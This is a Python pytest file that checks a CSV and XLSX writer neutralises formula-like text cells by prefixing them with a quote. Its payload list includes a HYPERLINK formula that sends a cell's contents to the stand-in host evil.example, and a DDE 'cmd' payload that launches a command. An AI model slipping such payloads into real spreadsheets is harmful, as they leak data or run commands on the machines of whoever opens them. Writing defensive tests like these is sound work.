"""The safe writer: formula-like text cells neutralised in every CSV and XLSX (issue 10 item 5)."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest

from lindung.core import tabular_write

PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&A1,"klik")', "+cmd|' /C calc'!A0", "@SUM(A1:A9)", "-2+3", "\t=1+1", "\r=1+1", "=2+5"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_like_text_is_prefixed_with_a_quote(payload):
    assert tabular_write.neutralise(payload) == "'" + payload
    assert tabular_write.formula_like(payload) and tabular_write.formula_like("  " + payload.lstrip("\t\r"))


def test_plain_values_are_left_alone():
    values = ["Siti Aminah", "Jl. Sudirman - 1", "1472015003900001", "", -5000, 4500000, 1.5, dt.date(2024, 1, 2), None, True]
    assert tabular_write.safe_row(values) == values
    assert not tabular_write.formula_like("Siti") and not tabular_write.formula_like(5)


def test_csv_writer_neutralises_every_text_cell():
    text = tabular_write.csv_text([["nama", "kode"], [PAYLOADS[0], PAYLOADS[1]], ["@SUM(A1)", -5]])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1] == ["'" + PAYLOADS[0], "'" + PAYLOADS[1]]
    assert rows[2] == ["'@SUM(A1)", "-5"]


def test_xlsx_cells_stay_text_never_formulas():
    from openpyxl import load_workbook

    data = tabular_write.xlsx_bytes({"Lembar": [["kode", "nilai"], ["=2+5", 7], [PAYLOADS[1], dt.date(2024, 1, 2)]]})
    ws = load_workbook(io.BytesIO(data)).active
    assert ws["A2"].value == "'=2+5" and ws["A2"].data_type == "s"
    assert ws["B2"].value == 7 and ws["A3"].value == "'" + PAYLOADS[1]
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
